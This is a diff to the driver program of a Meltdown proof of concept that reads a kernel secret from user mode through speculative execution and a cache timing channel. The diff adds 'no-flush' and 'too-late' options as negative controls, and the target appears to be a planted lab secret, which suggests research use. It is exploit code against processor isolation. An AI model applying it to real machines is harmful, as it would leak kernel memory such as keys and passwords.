@@ -1,12 +1,18 @@
 // SPDX-License-Identifier: MIT
 // Reads kernel memory from user mode, or tries to:
-//     meltdown signal|mispredict|tsx BYTES ATTEMPTS [touch]
+//     meltdown signal|mispredict|tsx BYTES ATTEMPTS [touch] [no-flush] [too-late]
 // First the control: the same code reads a buffer of its own whose content it does not know. Then
-// the kernel's secret. Standard output, a line each:
-//     calibration HIT MISS THRESHOLD           cycles
-//     control INDEX VALUE HITS ATTEMPTS TRUTH  VALUE and TRUTH in hexadecimal, VALUE "--" if
-//     unknown secret INDEX VALUE HITS ATTEMPTS cycles control|secret NUMBER             of the
-//     time-stamp counter
+// the kernel's secret. `touch` has the kernel use it before each byte. The other two leave out what
+// the attack needs: the channel's lines are not flushed, or the byte is sent too late.
+//
+// Standard output, a line each; values in hexadecimal, "--" if unknown; cycles of the time-stamp
+// counter:
+//
+//     calibration HIT MISS THRESHOLD
+//     control INDEX VALUE HITS ATTEMPTS TRUTH
+//     secret INDEX VALUE HITS ATTEMPTS
+//     cycles control|secret NUMBER
+//
 // Exit status 0 however it went, 2 for wrong arguments, 3 if the CPU lacks what the method needs.
 #include <sys/random.h>
 
@@ -33,6 +39,7 @@ struct Plan {
     std::size_t bytes = 0;
     unsigned attempts = 0;
     bool touch = false;
+    bool flush = true;
     const std::uint8_t* secret = nullptr;
 };
 
@@ -41,12 +48,12 @@ struct Plan {
     std::exit(status);
 }
 
-std::unique_ptr<TransientReader> make_reader(const char* method) {
+std::unique_ptr<TransientReader> make_reader(const char* method, Sending sending) {
     if (std::strcmp(method, "signal") == 0) {
-        return make_signal_reader();
+        return make_signal_reader(sending);
     }
     if (std::strcmp(method, "mispredict") == 0) {
-        return make_mispredict_reader();
+        return make_mispredict_reader(sending);
     }
     if (std::strcmp(method, "tsx") != 0) {
         stop(wrong_arguments, "the method is signal, mispredict or tsx");
@@ -57,15 +64,27 @@ std::unique_ptr<TransientReader> make_reader(const char* method) {
 
 Plan make_plan(int count, char** arguments) {
     constexpr int least = 4;
-    constexpr int with_touch = 5;
-    if (count < least || count > with_touch) {
-        stop(wrong_arguments, "usage: meltdown signal|mispredict|tsx BYTES ATTEMPTS [touch]");
+    constexpr const char* usage =
+        "usage: meltdown signal|mispredict|tsx BYTES ATTEMPTS [touch] [no-flush] [too-late]";
+    if (count < least) {
+        stop(wrong_arguments, usage);
     }
     Plan plan;
-    plan.reader = make_reader(arguments[1]);
+    Sending sending = Sending::InTime;
+    for (int i = least; i < count; ++i) {
+        if (std::strcmp(arguments[i], "touch") == 0) {
+            plan.touch = true;
+        } else if (std::strcmp(arguments[i], "no-flush") == 0) {
+            plan.flush = false;
+        } else if (std::strcmp(arguments[i], "too-late") == 0) {
+            sending = Sending::Late;
+        } else {
+            stop(wrong_arguments, usage);
+        }
+    }
+    plan.reader = make_reader(arguments[1], sending);
     plan.bytes = std::strtoul(arguments[2], nullptr, 10);
     plan.attempts = static_cast<unsigned>(std::strtoul(arguments[3], nullptr, 10));
-    plan.touch = count == with_touch;
     plan.secret =
         reinterpret_cast<const std::uint8_t*>(read_number("/proc/ringfence/secret_address", 16));
     if (plan.bytes == 0 || plan.bytes > read_number("/proc/ringfence/secret_length", 10)) {
@@ -128,6 +147,7 @@ int main(int count, char** arguments) {
     const Plan plan = make_plan(count, arguments);
     CovertChannel channel(reinterpret_cast<std::uintptr_t>(plan.secret));
     const Calibration calibration = channel.calibrate();
+    channel.set_flushing(plan.flush);
     std::printf("calibration %lu %lu %lu\n", calibration.hit, calibration.miss,
                 calibration.threshold);
     if (!calibration.usable()) {
